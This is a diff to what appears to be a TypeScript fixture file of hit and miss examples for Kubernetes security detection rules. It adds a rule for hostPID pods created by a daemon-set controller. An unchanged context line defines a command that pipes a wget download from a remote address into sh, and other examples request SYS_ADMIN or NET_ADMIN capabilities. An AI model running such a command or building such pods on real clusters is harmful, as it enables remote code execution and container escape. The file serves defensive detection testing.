@@ -11,6 +11,7 @@ import {
 } from "./kubernetes-call.ts";
 
 const FETCH = ["sh", "-c", "wget -qO- http://203.0.113.9/x | sh"];
+const DAEMONS = by(`${CONTROLLERS}:daemon-set-controller`);
 const capability = (direction: "add" | "drop", name: string) =>
   secured({ capabilities: { [direction]: [name] } });
 
@@ -75,6 +76,10 @@ export const WORKLOAD_EXAMPLES: Examples = {
   "kubernetes.capability-over-host": {
     hit: call("create pods shop/web", capability("add", "SYS_ADMIN")),
     miss: call("create pods shop/web", capability("drop", "ALL")),
+  },
+  "kubernetes.pod-of-power-by-controller": {
+    hit: call("create pods shop/", pod({}, { hostPID: true }), DAEMONS),
+    miss: call("create pods kube-system/", pod({}, { hostPID: true }), DAEMONS),
   },
   "kubernetes.capability-over-network": {
     hit: call("create pods shop/web", capability("add", "NET_ADMIN")),
